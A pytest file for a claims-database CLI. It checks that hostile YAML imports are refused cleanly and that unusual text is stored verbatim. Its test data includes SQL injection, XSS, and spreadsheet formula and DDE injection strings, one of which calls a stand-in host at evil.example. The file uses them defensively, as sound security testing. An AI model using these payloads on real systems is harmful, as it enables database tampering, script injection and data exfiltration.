"""Hostile input is refused cleanly; odd but legitimate input is stored faithfully.

The hostile cases live in tests/data/hostile/ with the exact errors they must give
(manifest.yaml). Each runs through ``claimsdb add`` on both backends: exit code 1, a
message naming the file, the item and the problem, no traceback, and the database
exactly as before (full dump). Then the legitimate extremes: a UTF-8 byte-order
mark, CRLF line breaks, an empty statement list, SQL / HTML / spreadsheet formulas
in names and quotes, right-to-left scripts and combining characters, a 20 MB article
and 50,000 statements in one file; and correcting a stored actor.
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
import yaml
from sqlalchemy import text as sql

from bigarticles import write_big_article
from helpers import dump

HOSTILE = Path(__file__).resolve().parent / "data" / "hostile"
MANIFEST = yaml.safe_load((HOSTILE / "manifest.yaml").read_text(encoding="utf-8"))
CASES = {case["file"]: case for case in MANIFEST["cases"]}
PWNED = Path("/tmp/claimsdb-hostile-pwned")  # what python-object-tag.yaml would create
CLAIMSDB = Path(sys.executable).with_name("claimsdb")


def test_every_hostile_file_has_its_expected_errors_in_the_manifest():
    files = {p.name for p in HOSTILE.glob("*.yaml")} - {"manifest.yaml"}
    assert files == set(CASES)
    assert len(CASES) == 78
    for case in CASES.values():
        assert case["errors"], case["file"]
        for name in case.get("setup", []):
            assert (HOSTILE / "setup" / name).is_file()
        for name in case.get("together", []):
            assert (HOSTILE / "together" / name).is_file()


def _problem_lines(stderr: str) -> list[str]:
    return [line for line in stderr.splitlines() if line.startswith("  - ")]


def _matches(line: str, expected: dict) -> bool:
    prefix = line[4:].split(": ", 1)[0] if ": " in line else ""
    wanted = []
    if "line" in expected:
        wanted.append(f"line {expected['line']}")
    if "item" in expected:
        wanted.append(expected["item"])
    if "field" in expected:
        wanted.append(f"field '{expected['field']}'")
    where = [part.strip() for part in prefix.split(", ")] if prefix else []
    return all(w in where for w in wanted) and all(s in line for s in expected["says"])


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile_file_is_refused_with_its_error_and_changes_nothing(name, cli, engine,
                                                                     monkeypatch):
    case = CASES[name]
    for setup in case.get("setup", []):
        assert cli("add", "-q", HOSTILE / "setup" / setup).exit_code == 0
    for variable, value in case.get("env", {}).items():
        monkeypatch.setenv(variable, value)
    PWNED.unlink(missing_ok=True)
    before = dump(engine)

    # `together` files are imported in the same add, after the case's file.
    together = [HOSTILE / "together" / other for other in case.get("together", [])]
    result = cli("add", *case.get("args", []), HOSTILE / name, *together)

    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    stderr = result.stderr
    assert stderr.startswith(f"Error: {HOSTILE / name}: ")
    if "problems" in case:
        count = case["problems"]
        assert f": {count} problem{'s' if count != 1 else ''}, nothing was imported" in stderr
        lines = _problem_lines(stderr)
        assert len(lines) == count, stderr
        for expected in case["errors"]:
            assert any(_matches(line, expected) for line in lines), (expected, stderr)
    else:
        for expected in case["errors"]:
            assert all(s in stderr for s in expected["says"]), stderr
    assert dump(engine) == before
    assert not PWNED.exists()


def test_hostile_files_in_a_real_process_fail_cleanly_and_keep_going(db, engine):
    """The installed entry point, as a user runs it: one bad file after another."""
    plain = sorted(n for n, c in CASES.items()
                   if not c.get("setup") and not c.get("env") and not c.get("args")
                   and not c.get("together"))
    before = dump(engine)
    PWNED.unlink(missing_ok=True)
    env = {**os.environ, "CLAIMSDB_DB": db}
    files = [str(HOSTILE / name) for name in plain]
    result = subprocess.run([str(CLAIMSDB), "add", "--keep-going", *files],
                            capture_output=True, text=True, env=env, timeout=300)
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    for name in plain:
        assert f"Error: {HOSTILE / name}: " in result.stderr, name
    assert f"{len(plain)} failed" in result.stdout
    assert dump(engine) == before
    assert not PWNED.exists()


# -- legitimate, if unusual --------------------------------------------------------------

ARTICLE = """\
format: claimsdb/article@1
article:
  key: {key}
  title: Kremlin rejects report
  outlet: courier
  text_file: {text_file}
actors:
  - {{key: courier, name: The Courier, kind: outlet}}
  - {{key: peskov, name: Dmitry Peskov, kind: person}}
statements:
{statements}
"""


def _spans(engine, article):
    with engine.connect() as conn:
        text = conn.execute(sql("SELECT text FROM articles WHERE key = :k"),
                            {"k": article}).scalar_one()
        rows = conn.execute(sql(
            "SELECT s.key, s.quote, s.span_start, s.span_end FROM statements s "
            "JOIN articles a ON a.id = s.article_id WHERE a.key = :k ORDER BY s.key"),
            {"k": article}).all()
    return text, {key: (quote, start, end) for key, quote, start, end in rows}


def test_byte_order_marks_are_dropped_and_do_not_shift_spans(cli, engine, tmp_path):
    (tmp_path / "body.txt").write_bytes("\ufeffPeskov said it “does not reflect reality”.\n"
                                        .encode("utf-8"))
    document = ARTICLE.format(key="bom", text_file="body.txt", statements=(
        "  - {key: denial, quote: does not reflect reality, chain: [peskov]}"))
    path = tmp_path / "bom.yaml"
    path.write_bytes(b"\xef\xbb\xbf" + document.encode("utf-8"))
    result = cli("add", path)
    assert result.exit_code == 0, result.output
    text, spans = _spans(engine, "bom")
    assert text == "Peskov said it “does not reflect reality”.\n"
    assert spans["denial"] == ("does not reflect reality", 16, 40)
    assert text[16:40] == "does not reflect reality"
    assert cli("check").exit_code == 0


def test_crlf_article_files_and_crlf_texts_keep_spans_on_the_quoted_words(cli, engine,
                                                                           tmp_path):
    (tmp_path / "body.txt").write_bytes(
        b"According to Reuters, the talks have stalled.\r\n"
        b"Peskov said this \xe2\x80\x9cdoes not reflect\r\nreality\xe2\x80\x9d.\r\n")
    document = ARTICLE.format(key="crlf", text_file="body.txt", statements="\n".join([
        "  - {key: stalled, quote: the talks have stalled}",
        '  - {key: denial, quote: "does not reflect\\r\\nreality", chain: [peskov],'
        " denies: [stalled]}",
    ]))
    path = tmp_path / "crlf.yaml"
    path.write_bytes(document.replace("\n", "\r\n").encode("utf-8"))  # the file itself: CRLF
    result = cli("add", path)
    assert result.exit_code == 0, result.output
    text, spans = _spans(engine, "crlf")
    assert "\r\n" in text  # stored exactly as the text file has it
    for quote, start, end in spans.values():
        assert text[start:end] == quote
    assert spans["denial"][0] == "does not reflect\r\nreality"
    assert cli("check").exit_code == 0


def test_an_article_with_no_statements_yet_is_stored(cli, engine, write_article):
    path = write_article("article: {key: later, title: To annotate, text: Nothing yet.}\n"
                         "statements: []\n")
    result = cli("add", path)
    assert result.exit_code == 0, result.output
    assert "added article 'later' (0 statements)" in result.output
    assert dump(engine)["articles"] and not dump(engine)["statements"]
    assert cli("add", path).output.count("unchanged") == 1


HOSTILE_TEXT = {
    "sql": "Robert'); DROP TABLE statements;-- said",
    "formula": "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "plus": "+7 (495) 606-36-02",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "html": "<script>alert('xss')</script> & <b>bold</b>",
    "arabic": "قال المتحدث باسم الكرملين",
    "hebrew": "דובר הקרמלין אמר",
    "combining": "Zu\u0308rich cafe\u0301 Ǆ a\u0301\u0302\u0303",
}


def test_sql_html_formulas_rtl_and_combining_text_are_stored_verbatim_and_harmless(
        cli, engine, tmp_path):
    body = "\n".join(f"{key.upper()}: {value}." for key, value in HOSTILE_TEXT.items()) + "\n"
    actors = "\n".join(
        f"  - {{key: {key}, name: {json.dumps(value, ensure_ascii=False)}, kind: person, "
        f"aliases: [{json.dumps(value[::-1], ensure_ascii=False)}]}}"
        for key, value in HOSTILE_TEXT.items())
    statements = "\n".join(
        f"  - {{key: {key}, quote: {json.dumps(value, ensure_ascii=False)}, chain: [{key}]}}"
        for key, value in HOSTILE_TEXT.items())
    (tmp_path / "odd.yaml").write_text(
        f"article:\n  key: odd\n  title: {json.dumps(HOSTILE_TEXT['html'])}\n"
        f"  text: {json.dumps(body, ensure_ascii=False)}\n"
        f"actors:\n{actors}\nstatements:\n{statements}\n", encoding="utf-8")
    result = cli("add", tmp_path / "odd.yaml")
    assert result.exit_code == 0, result.output

    text, spans = _spans(engine, "odd")
    assert text == body
    for key, value in HOSTILE_TEXT.items():  # verbatim, spans on the words
        quote, start, end = spans[key]
        assert quote == value == text[start:end]
    with engine.connect() as conn:  # the injected SQL was data, not a statement
        assert conn.execute(sql("SELECT count(*) FROM statements")).scalar() == len(HOSTILE_TEXT)
        names = dict(conn.execute(sql("SELECT key, name FROM actors")).all())
    assert all(names[key] == value for key, value in HOSTILE_TEXT.items())

    # CSV: every cell a spreadsheet would run as a formula is neutralised ...
    exported = cli("export", "csv", "--article", "odd").output
    rows = {row["statement"]: row for row in csv.DictReader(io.StringIO(exported))}
    for key in ("formula", "plus", "at"):
        assert rows[key]["quote"] == "'" + HOSTILE_TEXT[key]
        assert rows[key]["speaker"] == "'" + HOSTILE_TEXT[key]
    for key in ("sql", "html", "arabic", "hebrew", "combining"):
        assert rows[key]["quote"] == HOSTILE_TEXT[key]
    # ... and written verbatim when asked.
    raw = cli("export", "csv", "--article", "odd", "--no-formula-guard").output
    raw_rows = {row["statement"]: row for row in csv.DictReader(io.StringIO(raw))}
    assert raw_rows["formula"]["quote"] == HOSTILE_TEXT["formula"]

    # JSON carries the exact text; the chain view prints it as text.
    shown = json.loads(cli("chain", "odd#html", "--format", "json").output)
    assert shown["quote"] == HOSTILE_TEXT["html"]
    assert shown["speaker"]["name"] == HOSTILE_TEXT["html"]
    chain = cli("chain", "odd#arabic").output
    assert HOSTILE_TEXT["arabic"] in chain
    assert cli("check").exit_code == 0


# -- correcting stored actors ----------------------------------------------------------------

ONE = """\
article: {key: one, title: One, text: Officials said no.}
actors:
  - {key: officials, name: Officials, kind: group}
statements:
  - {key: refusal, quote: said no, chain: [officials]}
"""


def _actor(engine, key):
    with engine.connect() as conn:
        return conn.execute(sql(
            "SELECT name, kind, identified, wikidata, description FROM actors WHERE key = :k"),
            {"k": key}).one()


def test_a_conflicting_actor_definition_is_an_error_showing_both_values(cli, engine,
                                                                        write_article):
    assert cli("add", write_article(ONE, "one.yaml")).exit_code == 0
    corrected = ONE.replace("kind: group}", "kind: group, identified: anonymous}")
    before = dump(engine)
    result = cli("add", write_article(corrected, "corrected.yaml"))
    assert result.exit_code == 1
    assert ("line 3, actor 'officials', field 'identified': 'anonymous' conflicts with the "
            "stored identified 'named'") in result.stderr
    assert "--update-actors" in result.stderr
    assert dump(engine) == before


def test_update_actors_overwrites_the_files_explicit_fields_and_reports_them(cli, engine,
                                                                             write_article):
    assert cli("add", write_article(ONE.replace(
        "kind: group}", "kind: group, wikidata: Q1, description: Unnamed.}"),
        "one.yaml")).exit_code == 0
    assert tuple(_actor(engine, "officials")) == ("Officials", "group", "named", "Q1",
                                                  "Unnamed.")
    corrected = ONE.replace(
        "{key: officials, name: Officials, kind: group}",
        "{key: officials, name: Western officials, kind: group, identified: anonymous, "
        "wikidata: Q2}")
    result = cli("add", "--update-actors", write_article(corrected, "corrected.yaml"))
    assert result.exit_code == 0, result.output
    assert ("; corrected actor 'officials': name 'Officials' -> 'Western officials', "
            "identified 'named' -> 'anonymous', wikidata 'Q1' -> 'Q2'") in result.output
    # Explicit fields overwritten; the description the file leaves out is kept.
    assert tuple(_actor(engine, "officials")) == ("Western officials", "group", "anonymous",
                                                  "Q2", "Unnamed.")
    # The article itself did not change; a second run has nothing left to correct.
    assert "unchanged article 'one'" in result.output
    again = cli("add", "--update-actors", write_article(corrected, "corrected.yaml"))
    assert "; corrected" not in again.output
    assert cli("check").exit_code == 0


def test_update_actors_in_a_dry_run_writes_nothing(cli, engine, write_article):
    assert cli("add", write_article(ONE, "one.yaml")).exit_code == 0
    before = dump(engine)
    corrected = ONE.replace("kind: group}", "kind: organization}")
    result = cli("add", "--update-actors", "--dry-run", write_article(corrected, "c.yaml"))
    assert result.exit_code == 0
    assert "; corrected actor 'officials': kind 'group' -> 'organization'" in result.output
    assert dump(engine) == before


def test_update_actors_still_refuses_a_bad_file_as_a_whole(cli, engine, write_article):
    assert cli("add", write_article(ONE, "one.yaml")).exit_code == 0
    before = dump(engine)
    corrected = ONE.replace("kind: group}", "kind: organization}") + \
        "  - {key: broken, quote: not in the text}\n"
    result = cli("add", "--update-actors", write_article(corrected, "c.yaml"))
    assert result.exit_code == 1
    assert dump(engine) == before


# -- size: a 20 MB article, 50,000 statements ---------------------------------------------------

def _timed_add(db: str, path: Path) -> tuple[float, float, subprocess.CompletedProcess]:
    """Import in a real process; returns (seconds, peak RSS in MiB, the process)."""
    probe = ("import resource, subprocess, sys, time, json\n"
             "start = time.perf_counter()\n"
             "done = subprocess.run(sys.argv[1:], capture_output=True, text=True)\n"
             "took = time.perf_counter() - start\n"
             "rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024\n"
             "print(json.dumps([took, rss, done.returncode, done.stdout, done.stderr]))\n")
    out = subprocess.run([sys.executable, "-c", probe, str(CLAIMSDB), "--db", db, "add",
                          str(path)], capture_output=True, text=True, timeout=900, check=True)
    took, rss, code, stdout, stderr = json.loads(out.stdout)
    return took, rss, subprocess.CompletedProcess([], code, stdout, stderr)


@pytest.mark.slow
def test_fifty_thousand_statements_import_in_bounded_time_and_memory(db, engine, tmp_path,
                                                                     backend):
    path = write_big_article(tmp_path / "fifty-thousand.yaml", statements=50_000)
    took, rss, done = _timed_add(db, path)
    print(f"\n50,000 statements ({path.stat().st_size / 1e6:.1f} MB file) on {backend}: "
          f"{took:.1f} s, peak RSS {rss:.0f} MiB")
    assert done.returncode == 0, done.stderr
    assert "added article 'big-article' (50000 statements)" in done.stdout
    assert took < 240 and rss < 1500
    with engine.connect() as conn:
        assert conn.execute(sql("SELECT count(*) FROM statements")).scalar() == 50_000
        assert conn.execute(sql("SELECT count(*) FROM relations")).scalar() == 10_000


@pytest.mark.slow
def test_a_twenty_megabyte_article_imports_in_bounded_time_and_memory(db, engine, tmp_path,
                                                                      backend):
    path = write_big_article(tmp_path / "twenty-mb.yaml", statements=1_000,
                             text_chars=20_000_000)
    took, rss, done = _timed_add(db, path)
    print(f"\n20,000,000-character article ({path.stat().st_size / 1e6:.1f} MB file) on "
          f"{backend}: {took:.1f} s, peak RSS {rss:.0f} MiB")
    assert done.returncode == 0, done.stderr
    assert took < 120 and rss < 1000
    with engine.connect() as conn:
        length = conn.execute(sql("SELECT length(text) FROM articles")).scalar()
    assert length >= 20_000_000


def test_the_size_limit_is_configurable(cli, write_article, monkeypatch):
    path = write_article("article: {key: small, title: Small, text: Tiny.}\nstatements: []\n")
    monkeypatch.setenv("CLAIMSDB_MAX_FILE_BYTES", "20")
    refused = cli("add", path)
    assert refused.exit_code == 1
    assert "over the 20-byte limit" in refused.stderr
    monkeypatch.setenv("CLAIMSDB_MAX_FILE_BYTES", "1_000")
    assert cli("add", path).exit_code == 0
    (path.parent / "long.txt").write_text("x" * 2000, encoding="utf-8")
    text_file = write_article("article: {key: long, title: Long, text_file: long.txt}\n"
                              "statements: []\n", "long.yaml")
    refused = cli("add", text_file)
    assert refused.exit_code == 1
    assert "long.txt is 2,000 bytes, over the 1,000-byte limit" in refused.stderr


def test_a_draft_of_hostile_text_imports_it_verbatim(cli, engine, tmp_path):
    """``claimsdb draft`` of a text full of SQL, formulas, markup, right-to-left and
    combining text: the draft is an article file that stores it exactly, and the
    quotes (in every quotation style) are the text's own characters."""
    body = "".join(f"Peskov said: “{value}”.\n" for value in HOSTILE_TEXT.values()) + (
        "Лавров заявил: «" + HOSTILE_TEXT["sql"] + "».\n"
        "'" + HOSTILE_TEXT["html"] + "', the ministry said.\n")
    source = tmp_path / "hostile.txt"
    source.write_text(body, encoding="utf-8")
    drafted = cli("draft", source, "-o", tmp_path / "hostile.yaml")
    assert drafted.exit_code == 0, drafted.stderr
    added = cli("add", tmp_path / "hostile.yaml")
    assert added.exit_code == 0, added.output
    text, spans = _spans(engine, "hostile")
    assert text == body
    quotes = {quote for quote, _start, _end in spans.values()}
    assert set(HOSTILE_TEXT.values()) <= quotes
    assert all(text[start:end] == quote for quote, start, end in spans.values())
